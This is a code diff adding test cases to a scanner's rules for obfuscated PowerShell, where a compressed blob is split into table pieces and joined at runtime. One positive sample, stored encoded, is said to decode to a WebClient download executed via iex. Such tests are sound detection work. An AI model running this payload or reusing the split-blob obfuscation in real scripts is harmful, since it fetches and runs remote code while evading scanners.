@@ -606,3 +606,36 @@ describe('adversarial decoding helpers', () => {
     expectScansQuickly([text], 'scripts/x.py');
   });
 });
+
+/** A gzip+base64 blob cut into four table entries (PowerShell `@{ a = '…'; … }`), joined when run. */
+function psPieces(blob: string): string {
+  const n = blob.length / 4;
+  const parts = [0, 1, 2, 3].map((i) => `  p${i} = '${blob.slice(i * n, (i + 1) * n)}'`);
+  return `$t = @{\n${parts.join('\n')}\n}\n$s = $t.p0 + $t.p1 + $t.p2 + $t.p3\n`;
+}
+
+describeRuleCases('obfuscation (compressed blob in pieces)', [
+  {
+    id: 'SG-OBFUSC-008',
+    file: 'scripts/Tidy.ps1',
+    // Decodes to a WebClient download run by iex.
+    positive: psPieces(
+      'H4sIAAAAAAACAwXBsQqAIBQF0F9xCKyhJ61FU802NDSrPcoQlbxgn985jZs1136zDzsIzaCD7RI8R0yeP9E4WlONIZlzx+vj1cobyGVUqsBcTNacdyqgyFCZchlk9wNOTQGpVAAAAA==',
+    ),
+    // Decodes to a CSV header template: data, not a command.
+    negative: psPieces(
+      'H4sIAAAAAAACAwvNyyzRCUnNS8wr0QlKBRJOiTmJecmpXI6GOi75qQpeOoZGBgY6BlyORjpBQL63jqGxqYGOuSkXAPPAhQU6AAAA',
+    ),
+  },
+]);
+
+describe('adversarial compressed pieces', () => {
+  const MiB = 1024 * 1024;
+  // Gzip heads that never inflate, each followed by the most pieces the join walks through.
+  const piece = (c: string) => `'${c.repeat(4000 / c.length)}'\n`;
+  const group = piece('H4sIAAAAAAACAwXBsQqA') + piece('QaFu0DAEINUOjSUoa1LX').repeat(16);
+  const text = group.repeat(12) + 'hello world ok\n'.repeat((MiB - group.length * 12) / 15);
+  it('should scan 1 MiB of long pieces after gzip heads in under a second', () => {
+    expectScansQuickly([text], 'scripts/x.ps1');
+  });
+});
